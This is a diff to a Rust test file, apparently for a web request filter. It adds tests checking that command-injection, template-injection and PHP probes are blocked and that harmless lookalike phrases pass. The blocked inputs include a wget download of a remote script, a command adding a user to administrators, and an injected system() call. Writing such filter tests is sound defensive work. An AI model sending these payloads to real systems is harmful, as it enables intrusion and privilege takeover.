@@ -128,6 +128,36 @@ fn command_injection_and_lookalikes() {
 }
 
 #[test]
+fn direct_and_bare_commands_and_lookalikes() {
+    // A parameter that is a whole command line needs no separator.
+    blocks(&get(&q("uname -a")), "cmdi.");
+    blocks(&get(&q("whoami")), "cmdi.");
+    blocks(&get(&q("netstat -ano")), "cmdi.");
+    blocks(&get(&q("type C:\\inetpub\\logs\\x.log")), "cmdi.");
+    blocks(&get(&q("net localgroup administrators eve /add")), "cmdi.");
+    blocks(&get(&q("wget http://203.0.113.9/x.sh")), "cmdi.");
+    blocks(&get(&q("sleep 20")), "cmdi.");
+    blocks(&get(&q("which socat")), "cmdi.");
+    blocks(&get(&q("' ifconfig")), "cmdi.");
+    // Bare commands between separators, and escaped line breaks.
+    blocks(&get(&q(");id|")), "cmdi.");
+    blocks(&get(&q("`ls`")), "cmdi.");
+    blocks(&get(&q("| netsh advfirewall show allprofiles")), "cmdi.");
+    blocks(&get(&q("x\\n ping -c 9 198.51.100.7\\n")), "cmdi.");
+    // Commands as words.
+    passes(&get(&q("sleep 8 hours a night")));
+    passes(&get(&q("type of account")));
+    passes(&get(&q("net user growth in 2024")));
+    passes(&get(&q("fields=name;id")));
+    passes(&get(&q("which one is better")));
+    passes(&get("/login?uname=anne"));
+    passes(&post(
+        "application/json",
+        r#"{"trace":"Error: boom\n    at https://cdn.example.com/app.js:1:993"}"#,
+    ));
+}
+
+#[test]
 fn traversal_and_lookalikes() {
     blocks(&get(&q("../../../../etc/passwd")), "traversal.");
     blocks(&get(&q("..%2f..%2f..%2fetc%2fshadow")), "traversal.");
@@ -169,6 +199,20 @@ fn traversal_with_garbled_separators_and_lookalikes() {
     passes(&get("/f?wallet=0x52908400098527886e0f7030069857d2e4169ee7"));
     passes(&get(&q("Ángel Núñez")));
     passes(&get(&q("see the .NET docs")));
+}
+
+#[test]
+fn template_and_php_probes_and_lookalikes() {
+    blocks(&get(&q("{{7*191}}")), "other.template_injection");
+    blocks(
+        &get(&q("{{ ''.__ class __.__ mro __ }}")),
+        "other.template_injection",
+    );
+    blocks(&get(&q("{${system(hexdec(99))}}")), "php.");
+    blocks(&get(&q(";{$_POST['x']}")), "php.");
+    blocks(&get(&q("phpversion()")), "php.");
+    passes(&get(&q("{{ user.first_name }}")));
+    passes(&get(&q("price: $5 [approx]")));
 }
 
 #[test]
